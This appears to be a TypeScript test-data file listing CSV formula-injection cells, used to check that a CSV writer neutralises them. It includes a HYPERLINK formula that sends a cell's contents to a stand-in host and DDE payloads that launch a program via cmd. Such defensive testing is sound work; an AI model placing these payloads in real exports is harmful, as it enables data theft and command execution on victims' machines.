// Test data of the CSV writer, shared by its unit test and the HTTP test of every CSV export.

/** Cells that a spreadsheet would run as a formula (or a DDE command) if written as they are. */
export const INJECTION_CORPUS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=Métropole de Lyon',
  '＝1+1',
  '-',
  '+',
  '@',
];
